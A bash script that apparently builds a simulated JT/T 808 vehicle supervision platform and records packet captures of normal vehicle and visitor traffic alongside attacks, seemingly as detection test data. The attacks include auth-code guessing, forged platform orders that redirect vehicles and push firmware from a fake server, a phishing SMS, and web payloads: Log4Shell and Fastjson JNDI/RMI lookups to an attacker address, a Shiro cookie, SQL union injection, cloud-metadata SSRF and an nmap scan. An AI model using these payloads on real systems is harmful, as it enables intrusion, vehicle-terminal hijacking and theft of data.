#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
#
# Zone net-online: the vehicle supervision platform, 203.0.113.64/27.
#   203.0.113.66  web rtm.jt.jianghai.example   203.0.113.67  JT/T 808 access, TCP 6207
#   203.0.113.72  forwarding gateway of a coach company, itself a terminal
#   198.51.100.201-205  vehicles   192.0.2.30 .150  visitors
#   198.51.100.20  impostor        198.51.100.77   false platform
. "$(dirname "$0")/lib.sh"
. "$MAKE_DIR/web.sh"

WEB=203.0.113.66
ACCESS=203.0.113.67
GATE=203.0.113.72
NAME=rtm.jt.jianghai.example
DIR=$PCAPS_DIR/net-online
T808="python3 $MAKE_DIR/jt808.py"

wire_up "$WEB $ACCESS $GATE" "198.51.100.201 198.51.100.202 198.51.100.203 198.51.100.204
    198.51.100.205 192.0.2.30 192.0.2.150 198.51.100.20 198.51.100.77"
web_site $WEB $NAME 江海省重点营运车辆联网联控平台
serve inside 6207 $T808 serve $ACCESS 6207 ask-parameters heartbeat=60 locate \
    text=前方大雾，请减速慢行
serve outside 6207 $T808 serve 198.51.100.77 6207 \
    'control=2;0;CMNET;;;198.51.100.77;9999;;12345;code;1.0;1.0;;60' server=198.51.100.77 \
    'control=1;http://198.51.100.77/t808.bin;CMNET' firmware=2.0.1 lock=1 \
    listen=13900000009 live=198.51.100.77 text=您的车辆中奖，请登录http://198.51.100.77/
pause 0.5

record_start "$DIR/01-vehicles.pcap"
PIDS_DRIVE=()
for i in 1 2 3 4 5; do
	version=2019
	[ $((i % 2)) = 0 ] || version=2013
	outside 198.51.100.20$i $T808 drive 198.51.100.20$i $ACCESS 6207 1380010000$i $version \
	    20 0.4 &
	PIDS_DRIVE+=($!)
	pause 0.2
done
for v in 192.0.2.30 192.0.2.150; do
	visit $v $WEB $NAME
	visit $v $WEB $NAME https
done
wait "${PIDS_DRIVE[@]}"
record_stop

record_start "$DIR/02-impostor.pcap"
outside 198.51.100.205 $T808 drive 198.51.100.205 $ACCESS 6207 13800100005 2019 6 0.3
E=198.51.100.20
outside $E $T808 guess $E $ACCESS 6207 24
outside $E $T808 codes $E $ACCESS 6207 13800100001 123456 000000 admin test JH000000K7 \
    JH000001K6 1234567 111111 "x' or '1'='1" '${jndi:ldap://198.51.100.20/a}'
# Orders sent by the side that connected: the message id says platform, the address does not.
outside $E $T808 orders $E $ACCESS 6207 13800100002 2013 \
    'control=2;0;CMNET;;;198.51.100.20;9999;;;;;;;60' server=198.51.100.20 lock=1
record_stop

record_start "$DIR/03-false-platform.pcap"
inside $GATE $T808 drive $GATE 198.51.100.77 6207 13800100009 2013 4 0.4
record_stop

record_start "$DIR/04-web.pcap"
A=198.51.100.20
visit 192.0.2.30 $WEB $NAME
web_get $A "http://$WEB/api/vehicle" -H 'X-Forwarded-For: ${jndi:ldap://198.51.100.20:389/x}'
web_get $A "http://$WEB/api/vehicle" -H 'Content-Type: application/json' \
    -d '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://198.51.100.20/x"}'
web_get $A "http://$WEB/api/vehicle" \
    -H "Cookie: rememberMe=$(head -c 384 /dev/urandom | base64 -w0)"
web_get $A "http://$WEB/actuator/heapdump"
web_get $A "http://$WEB/news?id=2%20union%20all%20select%20name,sql%20from%20sqlite_master"
web_get $A "http://$WEB/proxy?url=http://169.254.169.254/latest/meta-data/"
try outside $A nmap -n -Pn -sT -sV --version-intensity 4 -p 6207 $ACCESS
record_stop
wire_down
